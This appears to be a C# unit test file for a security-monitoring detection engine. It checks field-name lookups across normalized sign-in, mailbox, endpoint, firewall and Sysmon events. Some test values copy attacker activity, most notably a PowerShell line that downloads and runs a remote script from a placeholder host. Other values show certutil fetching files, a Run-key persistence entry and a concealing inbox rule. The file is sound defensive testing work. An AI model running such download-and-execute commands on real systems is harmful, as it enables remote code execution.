using Soc.Core.Detect;
using Soc.Core.Normalize;
using Soc.Sigma;

namespace Soc.Core.Tests.Detect;

public sealed class EventRecordTests
{
    private static EventRecord Record(string name) =>
        new(Assert.IsType<Normalization.Succeeded>(Normalizer.Normalize(Corpus.Signal(name), TestTenant.Directory)).Event, TestTenant.Directory);

    [Theory]
    [InlineData("EntraSignIn/wrong-password", "properties.deviceDetail.operatingSystem", "Windows10")]
    [InlineData("EntraSignIn/wrong-password", "deviceDetail.operatingSystem", "Windows10")]
    [InlineData("EntraSignIn/wrong-password", "resultType", "50126")]
    [InlineData("EntraSignIn/wrong-password", "ResultType", "50126")]
    [InlineData("EntraSignIn/wrong-password", "status.errorCode", "50126")]
    [InlineData("EntraSignIn/wrong-password", "properties.deviceDetail.deviceId", "")]
    [InlineData("EntraSignIn/types-flipped", "authenticationDetails.authenticationMethod", "[Password]")]
    [InlineData("EntraAudit/security-info-registered", "properties.message", "User registered security info")]
    [InlineData("EntraAudit/security-info-registered", "ActivityDisplayName", "User registered security info")]
    [InlineData("EntraAudit/security-info-registered", "properties.initiatedBy.user.ipAddress", "198.51.100.77")]
    [InlineData("EntraAudit/security-info-registered", "targetResources[0].userPrincipalName", "mira.holm@example.org")]
    [InlineData("EntraAudit/security-info-registered", "targetResources.userPrincipalName", "[mira.holm@example.org]")]
    [InlineData("EntraAudit/role-assigned-by-admin", "properties.targetResources.modifiedProperties.Role.DisplayName", "[\"Exchange Administrator\", Exchange Administrator]")]
    [InlineData("EntraAudit/application-adds-credentials", "properties.additionalDetails.AppId", "[a172cedc-ae47-474b-a15c-54d510a5d84a]")]
    [InlineData("EntraSignIn/wrong-password", "ClientApp", "Browser")]
    [InlineData("Office365Exchange/new-inbox-rule", "eventSource", "Exchange")]
    [InlineData("Office365Exchange/new-inbox-rule", "eventName", "New-InboxRule")]
    [InlineData("Office365Exchange/new-inbox-rule", "status", "Success")]
    [InlineData("Office365Exchange/new-inbox-rule", "Operation", "New-InboxRule")]
    [InlineData("Office365Exchange/new-inbox-rule", "Parameters.MoveToFolder", "[RSS Feeds]")]
    [InlineData("Office365Exchange/new-inbox-rule", "Parameters.Name", "[AlwaysDeleteOutlookRulesBlob, Force, Name, SubjectOrBodyContainsWords, MoveToFolder, MarkAsRead, StopProcessingRules, .,]")]
    [InlineData("Office365Exchange/parameters-are-one-string", "Parameters.MoveToFolder", "Archive")]
    [InlineData("Office365Exchange/parameters-are-one-string", "Parameters.From", "[cfo@example.org, ceo@example.org]")]
    [InlineData("Office365Exchange/parameters-are-one-string", "Parameters.Priority", "1")]
    [InlineData("Office365Exchange/mail-items-accessed", "OperationProperties.MailAccessType", "[Bind]")]
    [InlineData("Office365Exchange/mail-items-accessed", "Folders.FolderItems.SizeInBytes", "[48213]")]
    [InlineData("Office365Exchange/outlook-updates-rules", "OperationProperties.RuleActions.ActionType", "[Move]")]
    [InlineData("Office365Exchange/outlook-updates-rules", "ModifiedProperties", "[RecipientSettings]")]
    [InlineData("DefenderEmailEvents/inbound-from-first-contact", "AuthenticationDetails.DMARC", "fail")]
    [InlineData("DefenderEmailEvents/types-flipped", "AuthenticationDetails.DMARC", "pass")]
    [InlineData("DefenderUrlClickEvents/click-allowed", "UrlChain", "[[\"https://links.example.net/r?u=1\", \"https://sign.invoices-portal.example/s/9f31\"], https://links.example.net/r?u=1, https://sign.invoices-portal.example/s/9f31]")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "FileName", "certutil.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "properties.FileName", "certutil.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "filename", "certutil.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "AdditionalFields.DesiredAccess", "2097151")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "Image", @"C:\Windows\System32\certutil.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "ParentImage", @"c:\windows\explorer.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "OriginalFileName", "CertUtil.exe")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "User", @"examplecorp\mira.holm")]
    [InlineData("DefenderDeviceNetworkEvents/connection-to-public-address", "DestinationHostname", "relay.helpdesk-tools.example")]
    [InlineData("DefenderDeviceNetworkEvents/connection-to-public-address", "DestinationPort", "443")]
    [InlineData("DefenderDeviceNetworkEvents/connection-to-public-address", "Initiated", "true")]
    [InlineData("DefenderDeviceNetworkEvents/inbound-accepted", "Initiated", "false")]
    [InlineData("DefenderDeviceNetworkEvents/inbound-accepted", "DestinationPort", "3389")]
    [InlineData("DefenderDeviceNetworkEvents/dns-with-native-object", "AdditionalFields.answers", "[[\"203.0.113.140\"], 203.0.113.140]")]
    [InlineData("DefenderDeviceFileEvents/executable-created", "TargetFilename", @"C:\Users\mira.holm\AppData\Roaming\hd\helpdesk.exe")]
    [InlineData("DefenderDeviceFileEvents/executable-created", "process.name", null)]
    [InlineData("WindowsSecurity/wrong-password", "EventID", "4625")]
    [InlineData("WindowsSecurity/wrong-password", "Channel", "Security")]
    [InlineData("WindowsSecurity/wrong-password", "Provider_Name", "Microsoft-Windows-Security-Auditing")]
    [InlineData("WindowsSecurity/wrong-password", "TargetUserName", "Administrator")]
    [InlineData("WindowsSecurity/process-created", "NewProcessName", @"C:\Windows\System32\certutil.exe")]
    [InlineData("WindowsSecurity/process-created", "Image", @"C:\Windows\System32\certutil.exe")]
    [InlineData("WindowsSecurity/process-created", "ParentImage", @"C:\Windows\System32\cmd.exe")]
    [InlineData("WindowsSecurity/process-created", "IntegrityLevel", "S-1-16-12288")]
    [InlineData("WindowsSysmon/process-created", "Image", @"C:\Windows\System32\certutil.exe")]
    [InlineData("WindowsSysmon/process-created", "IntegrityLevel", "High")]
    [InlineData("WindowsSysmon/process-created", "EventData.ParentImage", @"C:\Windows\System32\cmd.exe")]
    [InlineData("WindowsSysmon/run-key-set", "Details", @"C:\Users\Public\a.exe -q")]
    [InlineData("WindowsPowerShell/script-block", "ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('https://files.invoices-portal.example/s.ps1')")]
    [InlineData("WindowsPowerShell/script-block", "script.content", "IEX (New-Object Net.WebClient).DownloadString('https://files.invoices-portal.example/s.ps1')")]
    [InlineData("WindowsSysmon/query-by-winlogbeat", "query.hostname", "relay.helpdesk-tools.example")]
    [InlineData("Syslog/audit-system-call-enriched", "type", "SYSCALL")]
    [InlineData("Syslog/fortigate-without-a-header", "cfgpath", "system.admin")]
    [InlineData("Syslog/fortigate-without-a-header", "action", "Add")]
    [InlineData("Syslog/asa-denies", "dst_port", "3389")]
    [InlineData("Syslog/asa-denies", "action", "Blocked")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "src", "192.0.2.24")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "SourceIP", "192.0.2.24")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "src_ip", "192.0.2.24")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "cs1", "allow web out")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "Rule", "allow web out")]
    [InlineData("CommonEventFormat/palo-alto-with-labels", "PanOSPacketsReceived", "20")]
    [InlineData("CommonEventFormat/palo-alto-url-with-equals-signs", "c-uri", "https://files.invoices-portal.example/a.txt?x=1&y=2")]
    [InlineData("CommonEventFormat/fortigate-sets-a-blank-behind-the-mark", "cfgpath", "user.local")]
    [InlineData("CommonEventFormat/fortigate-sets-a-blank-behind-the-mark", "action", "Add")]
    [InlineData("DefenderDeviceFileEvents/executable-created", "actor.process.name", "certutil.exe")]
    [InlineData("EntraSignIn/success-on-managed-device", "actor.user.uid", TestTenant.MiraId)]
    [InlineData("EntraSignIn/success-on-managed-device", "src_endpoint.ip", "192.0.2.4")]
    [InlineData("EntraSignIn/success-on-managed-device", "class_uid", "3002")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "process.file.sha256", "84738c97055f1619473b187d4b1413027ed20aba2cf5928e66460c9dfc99ba77")]
    [InlineData("EntraSignIn/success-on-managed-device", "noSuchField", null)]
    public void A_field_is_found_under_every_name_a_rule_gives_it(string name, string field, string? expected)
    {
        var value = Record(name).Field(field);

        if (expected is null) Assert.Equal(SigmaValue.Missing, value);
        else Assert.Equal(expected, value.ToString());
    }

    [Fact]
    public void A_null_column_is_null_and_not_missing() =>
        Assert.Equal(SigmaValueKind.Null, Record("DefenderEmailEvents/inbound-from-first-contact").Field("ThreatTypes").Kind);

    [Theory]
    [InlineData("EntraSignIn/success-on-managed-device", "soc.network.known", "true")]
    [InlineData("EntraSignIn/success-on-managed-device", "soc.network.name", "Office")]
    [InlineData("EntraSignIn/wrong-password", "soc.network.known", "false")]
    [InlineData("EntraAudit/failed-with-null-actor", "soc.network.known", null)]
    [InlineData("DefenderDeviceNetworkEvents/connection-to-public-address", "soc.network.known", "false")]
    [InlineData("EntraAudit/role-assigned-by-admin", "soc.user.privileged", "true")]
    [InlineData("EntraAudit/security-info-registered", "soc.user.privileged", "false")]
    [InlineData("EntraSignIn/success-on-managed-device", "soc.device.known", "true")]
    [InlineData("EntraSignIn/wrong-password", "soc.device.known", "false")]
    [InlineData("EntraSignIn/wrong-password", "soc.device.administrative", null)]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "soc.device.administrative", "false")]
    [InlineData("DefenderEmailEvents/inbound-from-first-contact", "soc.domain.known", "false")]
    [InlineData("DefenderEmailEvents/intra-org", "soc.domain.known", "true")]
    [InlineData("DefenderUrlClickEvents/click-in-teams", "soc.domain.known", "true")]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "soc.domain.known", null)]
    [InlineData("DefenderDeviceProcessEvents/certutil-fetches", "soc.tool.approved", "false")]
    [InlineData("DefenderEmailEvents/intra-org", "soc.tool.approved", null)]
    [InlineData("Office365Exchange/application-reads-mail", "soc.application.trusted", "true")]
    [InlineData("Office365Exchange/mail-items-accessed", "soc.application.trusted", "false")]
    [InlineData("Office365Exchange/mail-items-accessed", "soc.no.such.thing", null)]
    public void The_profile_answers_only_where_the_question_arises(string name, string field, string? expected)
    {
        var value = Record(name).Field(field);

        Assert.Equal(expected, value.Kind == SigmaValueKind.Missing ? null : value.ToString());
    }

    [Fact]
    public void Keywords_are_searched_in_every_value_of_the_record() =>
        Assert.Contains(Record("Office365Exchange/new-inbox-rule").Values, value => value.Text == "RSS Feeds");
}
